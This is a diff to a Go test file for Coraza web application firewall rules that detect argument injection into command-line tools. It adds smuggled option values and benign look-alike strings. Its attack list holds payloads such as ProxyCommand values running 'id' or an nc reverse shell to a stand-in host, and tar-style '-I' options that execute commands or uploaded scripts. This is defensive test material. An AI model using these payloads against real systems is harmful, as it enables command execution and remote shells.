@@ -47,6 +47,7 @@ var argumentAttacks = []string{
 	"-4oProxyCommand=id", "-vvvoProxyCommand=id", "-AoProxyCommand=nc -e sh e.x 4444", "-4o ProxyCommand=id", "-Cvo ProxyCommand=id",
 	"-4oLocalCommand id", "-u id", "-uid;x", "-qu id", "-u/srv/uploads/run", "-vqu id", "-uid&x", "-xvI id", "-cvf x -I id", "-xvI/srv/uploads/run",
 	"-czf out.tgz -Itouch x; cat",
+	"-Ifoo x; id", "-Fsh x", "-Ipython3 -c x", "-F/srv/x.sh", "-I/srv/x",
 }
 
 var execBenign = []string{
@@ -65,6 +66,9 @@ var execBenign = []string{
 	// near attack 11, BROKE 5
 	"-4oProxyJump=bastion", "-Co Compression=yes", "-u", "-uid", "-used", "-updated the docs", "-qutouch", "-user: ann",
 	"--u-turn", "-xvIid", "-xvInf to 7", "-HI there", "-WIFI is down", "-cvf x.tar dir", "-cvf x -I", "-Uid ann",
+	// an eighth fresh-eyes attack's (attack 12) false positives
+	"-Facebook privacy settings", "-Instagram -Facebook apps", "-Italy pizza", "-F/A-18 Hornet", "-Fixed crash when saving drafts\n-Improved sync speed",
+	"-Idaho potatoes", "-Fun times ahead", "-Install the app first",
 }
 
 // execMatches runs v through rules 210180-210186 in Coraza with the
